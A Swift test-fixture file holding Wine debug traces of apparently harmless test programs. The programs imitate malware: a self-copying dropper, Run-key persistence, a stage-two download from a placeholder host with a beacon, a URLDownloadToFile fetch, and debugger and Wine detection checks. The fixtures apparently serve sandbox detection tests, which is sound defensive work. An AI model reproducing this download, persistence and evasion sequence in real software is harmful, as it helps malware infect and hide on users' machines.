// Real excerpts of Wine 8.0 debug output captured from tests/pe programs (see docs/wine.md).
// Generated from runs in the overlay prototype; kept as literals so the test target needs no resources.
enum WineFixtures {
    static let dropperLog = #"""
771.612:0020:0024:trace:process:NtCreateUserProcess L"\\??\\C:\\windows\\system32\\wineboot.exe" image L"C:\\windows\\system32\\wineboot.exe" cmdline L"\"C:\\windows\\system32\\wineboot.exe\" --init" parent (nil)
771.764:0020:0024:trace:process:NtCreateUserProcess L"\\??\\C:\\windows\\system32\\wineboot.exe" pid 0028 tid 002c handles 0x14/0x18
771.764:0028:002c:trace:loaddll:build_module Loaded L"C:\\windows\\system32\\wineboot.exe" at 0000000140000000: builtin
771.765:0028:002c:trace:loaddll:build_module Loaded L"C:\\windows\\system32\\kernelbase.dll" at 000000007B000000: builtin
771.765:0028:002c:trace:loaddll:build_module Loaded L"C:\\windows\\system32\\kernel32.dll" at 000000007B600000: builtin
772.279:006c:0084:trace:seh:dispatch_exception code=6ba flags=0 addr=000000007B013D7E ip=7b013d7e
772.279:006c:0084:warn:seh:dispatch_exception unknown exception (code=6ba) raised
772.279:006c:0084:trace:seh:dispatch_exception  rax=000000007b013d30 rbx=000000000209f4a8 rcx=000000000209f1c0 rdx=0000000000000000
772.362:0020:0024:trace:loaddll:build_module Loaded L"C:\\users\\user\\Downloads\\dropper.exe" at 0000000140000000: native
772.362:0020:0024:trace:file:NtCreateFile handle=0x21f548 access=80100000 name=L"\\??\\C:\\users\\user\\Downloads\\kernel32.dll" objattr=00000040 root=(nil) sec=(nil) io=0x21f550 alloc_size=(nil) attr=00000000 sharing=00000005 disp=1 options=00000060 ea=(nil).0x00000000
772.362:0020:0024:trace:file:nt_to_unix_file_name_no_root L"users\\user\\Downloads\\kernel32.dll" not found in "/home/user/.wine/dosdevices/c:"
772.362:0020:0024:warn:file:NtCreateFile L"\\??\\C:\\users\\user\\Downloads\\kernel32.dll" not found (c0000034)
772.363:0020:0024:trace:file:NtCreateFile handle=0x21eed8 access=80100000 name=L"\\??\\C:\\users\\user\\Downloads\\kernelbase.dll" objattr=00000040 root=(nil) sec=(nil) io=0x21eee0 alloc_size=(nil) attr=00000000 sharing=00000005 disp=1 options=00000060 ea=(nil).0x00000000
772.363:0020:0024:trace:file:nt_to_unix_file_name_no_root L"users\\user\\Downloads\\kernelbase.dll" not found in "/home/user/.wine/dosdevices/c:"
772.363:0020:0024:warn:file:NtCreateFile L"\\??\\C:\\users\\user\\Downloads\\kernelbase.dll" not found (c0000034)
772.364:0020:0024:trace:file:NtCreateFile handle=0x21f118 access=80100000 name=L"\\??\\C:\\users\\user\\Downloads\\msvcrt.dll" objattr=00000040 root=(nil) sec=(nil) io=0x21f120 alloc_size=(nil) attr=00000000 sharing=00000005 disp=1 options=00000060 ea=(nil).0x00000000
772.364:0020:0024:trace:file:nt_to_unix_file_name_no_root L"users\\user\\Downloads\\msvcrt.dll" not found in "/home/user/.wine/dosdevices/c:"
772.364:0020:0024:warn:file:NtCreateFile L"\\??\\C:\\users\\user\\Downloads\\msvcrt.dll" not found (c0000034)
772.371:0020:0024:trace:file:CopyFileExW L"C:\\users\\user\\Downloads\\dropper.exe" -> L"C:\\users\\user\\AppData\\Roaming\\updater.exe", 0
772.371:0020:0024:trace:file:NtCreateFile handle=0x21f348 access=80100080 name=L"\\??\\C:\\users\\user\\Downloads\\dropper.exe" objattr=00000040 root=(nil) sec=(nil) io=0x21f370 alloc_size=(nil) attr=00000000 sharing=00000007 disp=1 options=00000060 ea=(nil).0x00000000
772.371:0020:0024:trace:file:nt_to_unix_file_name_no_root L"\\??\\C:\\users\\user\\Downloads\\dropper.exe" -> "/home/user/.wine/dosdevices/c:/users/user/Downloads/dropper.exe"
772.371:0020:0024:trace:file:NtCreateFile handle=0x21f348 access=00100080 name=L"\\??\\C:\\users\\user\\AppData\\Roaming\\updater.exe" objattr=00000040 root=(nil) sec=(nil) io=0x21f370 alloc_size=(nil) attr=00000000 sharing=00000003 disp=1 options=00000060 ea=(nil).0x00000000
772.371:0020:0024:trace:file:nt_to_unix_file_name_no_root L"users\\user\\AppData\\Roaming\\updater.exe" not found in "/home/user/.wine/dosdevices/c:"
772.371:0020:0024:warn:file:NtCreateFile L"\\??\\C:\\users\\user\\AppData\\Roaming\\updater.exe" not found (c0000034)
772.371:0020:0024:warn:file:CreateFileW Unable to create file L"C:\\users\\user\\AppData\\Roaming\\updater.exe" (status c0000034)
772.371:0020:0024:trace:file:NtCreateFile handle=0x21f348 access=40100080 name=L"\\??\\C:\\users\\user\\AppData\\Roaming\\updater.exe" objattr=00000040 root=(nil) sec=(nil) io=0x21f370 alloc_size=(nil) attr=00000020 sharing=00000003 disp=5 options=00000060 ea=(nil).0x00000000
772.371:0020:0024:trace:file:nt_to_unix_file_name_no_root L"\\??\\C:\\users\\user\\AppData\\Roaming\\updater.exe" -> "/home/user/.wine/dosdevices/c:/users/user/AppData/Roaming/updater.exe"
772.372:0020:0024:trace:process:CreateProcessInternalW app L"C:\\users\\user\\AppData\\Roaming\\updater.exe" cmdline L"\"C:\\users\\user\\AppData\\Roaming\\updater.exe\" child"
772.372:0020:0024:trace:file:NtCreateFile handle=0x346e88 access=00100001 name=L"\\??\\C:\\" objattr=00000040 root=(nil) sec=(nil) io=0x21e2d0 alloc_size=(nil) attr=00000000 sharing=00000003 disp=1 options=00004021 ea=(nil).0x00000000
772.372:0020:0024:trace:file:nt_to_unix_file_name_no_root L"\\??\\C:\\" -> "/home/user/.wine/dosdevices/c:/"
772.372:0020:0024:trace:file:NtCreateFile handle=0x346e98 access=00100001 name=L"\\??\\C:\\users\\" objattr=00000040 root=(nil) sec=(nil) io=0x21e2d0 alloc_size=(nil) attr=00000000 sharing=00000003 disp=1 options=00004021 ea=(nil).0x00000000
772.372:0020:0024:trace:file:nt_to_unix_file_name_no_root L"\\??\\C:\\users\\" -> "/home/user/.wine/dosdevices/c:/users/"
772.373:0020:0024:trace:file:NtCreateFile handle=0x346ea8 access=00100001 name=L"\\??\\C:\\users\\user\\" objattr=00000040 root=(nil) sec=(nil) io=0x21e2d0 alloc_size=(nil) attr=00000000 sharing=00000003 disp=1 options=00004021 ea=(nil).0x00000000
772.373:0020:0024:trace:file:nt_to_unix_file_name_no_root L"\\??\\C:\\users\\user\\" -> "/home/user/.wine/dosdevices/c:/users/user/"
772.373:0020:0024:trace:file:NtCreateFile handle=0x346eb8 access=00100001 name=L"\\??\\C:\\users\\user\\AppData\\" objattr=00000040 root=(nil) sec=(nil) io=0x21e2d0 alloc_size=(nil) attr=00000000 sharing=00000003 disp=1 options=00004021 ea=(nil).0x00000000
772.373:0020:0024:trace:file:nt_to_unix_file_name_no_root L"\\??\\C:\\users\\user\\AppData\\" -> "/home/user/.wine/dosdevices/c:/users/user/AppData/"
772.373:0020:0024:trace:file:NtCreateFile handle=0x346ec8 access=00100001 name=L"\\??\\C:\\users\\user\\AppData\\Roaming\\" objattr=00000040 root=(nil) sec=(nil) io=0x21e2d0 alloc_size=(nil) attr=00000000 sharing=00000003 disp=1 options=00004021 ea=(nil).0x00000000
772.373:0020:0024:trace:file:nt_to_unix_file_name_no_root L"\\??\\C:\\users\\user\\AppData\\Roaming\\" -> "/home/user/.wine/dosdevices/c:/users/user/AppData/Roaming/"
772.373:0020:0024:trace:process:NtCreateUserProcess L"\\??\\C:\\users\\user\\AppData\\Roaming\\updater.exe" image L"C:\\users\\user\\AppData\\Roaming\\updater.exe" cmdline L"\"C:\\users\\user\\AppData\\Roaming\\updater.exe\" child" parent (nil)
772.373:0020:0024:trace:file:nt_to_unix_file_name_no_root L"\\??\\C:\\users\\user\\Downloads\\" -> "/home/user/.wine/dosdevices/c:/users/user/Downloads/"
772.373:0020:0024:trace:file:nt_to_unix_file_name_no_root L"\\??\\C:\\users\\user\\AppData\\Roaming\\updater.exe" -> "/home/user/.wine/dosdevices/c:/users/user/AppData/Roaming/updater.exe"
772.379:0020:0024:trace:process:NtCreateUserProcess L"\\??\\C:\\users\\user\\AppData\\Roaming\\updater.exe" pid 00c8 tid 00cc handles 0x38/0x3c
772.379:0020:0024:trace:process:CreateProcessInternalW started process pid 00c8 tid 00cc
772.389:0020:0024:trace:file:NtCreateFile handle=0x21f8b8 access=80100000 name=L"\\??\\C:\\users\\user\\Downloads\\mscoree.dll" objattr=00000040 root=(nil) sec=(nil) io=0x21f8c0 alloc_size=(nil) attr=00000000 sharing=00000005 disp=1 options=00000060 ea=(nil).0x00000000
772.389:0020:0024:trace:file:nt_to_unix_file_name_no_root L"users\\user\\Downloads\\mscoree.dll" not found in "/home/user/.wine/dosdevices/c:"
772.389:0020:0024:warn:file:NtCreateFile L"\\??\\C:\\users\\user\\Downloads\\mscoree.dll" not found (c0000034)
772.379:00c8:00cc:trace:loaddll:build_module Loaded L"C:\\users\\user\\AppData\\Roaming\\updater.exe" at 0000000140000000: native
772.388:00c8:00cc:trace:file:NtCreateFile handle=0x21f4c8 access=40100080 name=L"\\??\\C:\\users\\user\\AppData\\Roaming\\petri-child.txt" objattr=00000040 root=(nil) sec=(nil) io=0x21f4f0 alloc_size=(nil) attr=00000080 sharing=00000000 disp=5 options=00000060 ea=(nil).0x00000000
772.388:00c8:00cc:trace:file:nt_to_unix_file_name_no_root L"\\??\\C:\\users\\user\\AppData\\Roaming\\petri-child.txt" -> "/home/user/.wine/dosdevices/c:/users/user/AppData/Roaming/petri-child.txt"
"""#

    static let runkeyLog = #"""
773.028:0020:0024:trace:reg:NtCreateKey ((nil),L"\\Registry\\User\\S-1-5-21-0-0-0-1000\\Software\\Wine",<null>,0,f003f,0x7ffc7c681c78)
773.031:0020:0024:trace:reg:NtCreateKey <- 0x4
774.103:0020:0024:trace:loaddll:build_module Loaded L"C:\\users\\user\\Downloads\\runkey.exe" at 0000000140000000: native
774.148:0020:0024:trace:reg:NtCreateKey ((nil),L"\\Registry\\User\\S-1-5-21-0-0-0-1000",<null>,0,2000000,0x21f150)
774.148:0020:0024:trace:reg:NtCreateKey <- 0x28
774.204:0020:0024:trace:reg:NtCreateKey (0x28,L"Software\\Microsoft\\Windows\\CurrentVersion\\Run",L"",0,2,0x21fb28)
774.204:0020:0024:trace:reg:NtCreateKey <- 0x30
774.204:0020:0024:trace:reg:NtSetValueKey (0x30,L"PetriUpdater",1,0x34ac80,100)
774.204:0020:0024:trace:reg:NtCreateKey (0x28,L"Software\\PetriTest",L"",0,2,0x21fb28)
774.204:0020:0024:trace:reg:NtCreateKey <- 0x30
774.204:0020:0024:trace:reg:NtSetValueKey (0x30,L"Installed",4,0x21fd1c,4)
"""#

    static let wininetLog = #"""
818.023:0020:0024:trace:loaddll:build_module Loaded L"C:\\users\\user\\Downloads\\wininet.exe" at 0000000140000000: native
818.269:0020:0024:trace:wininet:InternetOpenW (L"Mozilla/5.0 (petri test)", 1, (null), (null), 0)
818.269:0020:0024:trace:wininet:InternetOpenUrlW (0000000000000001, L"http://payload.example/stage2.bin", (null), 00000000, 80000000, 00000000)
818.269:0020:0024:trace:wininet:INTERNET_InternetOpenUrlW (00000000010A2F70, L"http://payload.example/stage2.bin", (null), 00000000, 80000000, 00000000)
818.269:0020:0024:trace:wininet:InternetCrackUrlW L"http://payload.example/stage2.bin": scheme((null)) host(L"payload.example") path(L"/stage2.bin") extra((null))
818.269:0020:0024:trace:wininet:HttpOpenRequestW (0000000000000002, (null), L"/stage2.bin", (null), (null), 000000000021EAF0, 80000000, 00000000)
818.275:0020:0024:trace:winsock:GetAddrInfoW nodename L"payload.example", servname (null), hints 000000000021D8A0, result 000000000021D898
818.275:0020:0024:trace:winsock:getaddrinfo node "payload.example", service (null), hints 00000000010A5A00
818.281:0020:0024:trace:winsock:GetAddrInfoW nodename L"payload.example", servname (null), hints 000000000021D8A0, result 000000000021D898
818.281:0020:0024:trace:winsock:getaddrinfo node "payload.example", service (null), hints 00000000010A5A00
818.286:0020:0024:trace:wininet:InternetOpenUrlW (0000000000000001, L"http://198.51.100.7/beacon?id=petri", (null), 00000000, 80000000, 00000000)
818.286:0020:0024:trace:wininet:INTERNET_InternetOpenUrlW (00000000010A2F70, L"http://198.51.100.7/beacon?id=petri", (null), 00000000, 80000000, 00000000)
818.286:0020:0024:trace:wininet:InternetCrackUrlW L"http://198.51.100.7/beacon?id=petri": scheme((null)) host(L"198.51.100.7") path(L"/beacon") extra(L"?id=petri")
818.286:0020:0024:trace:wininet:HttpOpenRequestW (0000000000000003, (null), L"/beacon?id=petri", (null), (null), 000000000021EAF0, 80000000, 00000000)
818.292:0020:0024:trace:winsock:GetAddrInfoW nodename L"198.51.100.7", servname (null), hints 000000000021D8A0, result 000000000021D898
818.292:0020:0024:trace:winsock:getaddrinfo node "198.51.100.7", service (null), hints 00000000010A60F0
818.292:0020:0024:trace:winsock:socket af=2 type=1 protocol=0
818.293:0020:0024:trace:winsock:connect socket 0x70, addr { family AF_INET, address 198.51.100.7, port 80 }, len 16
818.295:0020:0024:trace:winsock:connect failed, status 0xc000023c.
"""#

    static let urldownloadLog = #"""
778.150:0020:0024:trace:loaddll:build_module Loaded L"C:\\users\\user\\Downloads\\urldownload.exe" at 0000000140000000: native
778.311:0020:0024:trace:urlmon:URLDownloadToFileW (0000000000000000 L"http://cdn.example/invoice.exe" L"C:\\users\\user\\Temp\\invoice.exe" 0 0000000000000000)
"""#

    static let relayLog = #"""
855.464:0020:0024:trace:loaddll:build_module Loaded L"C:\\users\\user\\Downloads\\antidebug.exe" at 0000000140000000: native
855.479:0020:0024:Call PE DLL (proc=0000000170068C10,module=0000000170000000 L"ntdll.dll",reason=PROCESS_ATTACH,res=000000000021FB00)
855.479:0020:0024:Ret  PE DLL (proc=0000000170068C10,module=0000000170000000 L"ntdll.dll",reason=PROCESS_ATTACH,res=000000000021FB00) retval=1
855.479:0020:0024:Call PE DLL (proc=000000007B03CE20,module=000000007B000000 L"kernelbase.dll",reason=PROCESS_ATTACH,res=000000000021FB00)
855.511:0020:0024:Ret  PE DLL (proc=000000007B03CE20,module=000000007B000000 L"kernelbase.dll",reason=PROCESS_ATTACH,res=000000000021FB00) retval=1
855.511:0020:0024:Call PE DLL (proc=000000007B62F500,module=000000007B600000 L"kernel32.dll",reason=PROCESS_ATTACH,res=000000000021FB00)
855.511:0020:0024:Ret  PE DLL (proc=000000007B62F500,module=000000007B600000 L"kernel32.dll",reason=PROCESS_ATTACH,res=000000000021FB00) retval=1
855.512:0020:0024:Call ntdll.RtlInitializeCriticalSection(14000c120) ret=1400022ad
855.512:0020:0024:Ret  ntdll.RtlInitializeCriticalSection() retval=00000000 ret=1400022ad
855.512:0020:0024:Call KERNEL32.BaseThreadInitThunk(00000000,1400014d0,67ff0000) ret=17005dca8
855.512:0020:0024:Call KERNEL32.SetUnhandledExceptionFilter(140001eb0) ret=14000125e
855.512:0020:0024:Ret  KERNEL32.SetUnhandledExceptionFilter() retval=00000000 ret=14000125e
855.512:0020:0024:Call KERNEL32.IsDebuggerPresent() ret=14000158d
855.512:0020:0024:Ret  KERNEL32.IsDebuggerPresent() retval=00000000 ret=14000158d
855.512:0020:0024:Call KERNEL32.CheckRemoteDebuggerPresent(ffffffffffffffff,0021fcac) ret=1400015a3
855.512:0020:0024:Ret  KERNEL32.CheckRemoteDebuggerPresent() retval=00000001 ret=1400015a3
855.512:0020:0024:Call KERNEL32.GetModuleHandleA(140009000 "ntdll.dll") ret=1400015b0
855.512:0020:0024:Ret  KERNEL32.GetModuleHandleA() retval=170000000 ret=1400015b0
855.512:0020:0024:Call KERNEL32.GetProcAddress(170000000,14000900a "NtQueryInformationProcess") ret=1400015c0
855.512:0020:0024:Ret  KERNEL32.GetProcAddress() retval=1700038c0 ret=1400015c0
855.512:0020:0024:Call ntdll.NtQueryInformationProcess(ffffffffffffffff,00000007,0021fca0,00000008,00000000) ret=1400015f5
855.512:0020:0024:Ret  ntdll.NtQueryInformationProcess() retval=00000000 ret=1400015f5
855.512:0020:0024:Call KERNEL32.GetModuleHandleA(00000000) ret=140001600
855.512:0020:0024:Ret  KERNEL32.GetModuleHandleA() retval=140000000 ret=140001600
855.512:0020:0024:Call KERNEL32.VirtualProtect(140000000,00001000,00000004,0021fc9c) ret=140001622
879.501:0020:0024:Call KERNEL32.GetModuleHandleA(14000900f "ntdll.dll") ret=14000158c
879.501:0020:0024:Ret  KERNEL32.GetModuleHandleA() retval=170000000 ret=14000158c
879.501:0020:0024:Call KERNEL32.GetProcAddress(170000000,140009019 "wine_get_version") ret=1400015a2
879.501:0020:0024:Ret  KERNEL32.GetProcAddress() retval=17000cf64 ret=1400015a2
879.501:0020:0024:Call KERNEL32.GetProcAddress(170000000,14000902a "wine_get_host_version") ret=1400015b1
879.501:0020:0024:Ret  KERNEL32.GetProcAddress() retval=17000cf94 ret=1400015b1
879.501:0020:0024:Call KERNEL32.GetProcAddress(170000000,140009040 "wine_get_build_id") ret=1400015c0
879.501:0020:0024:Ret  KERNEL32.GetProcAddress() retval=17000cf7c ret=1400015c0
"""#

}
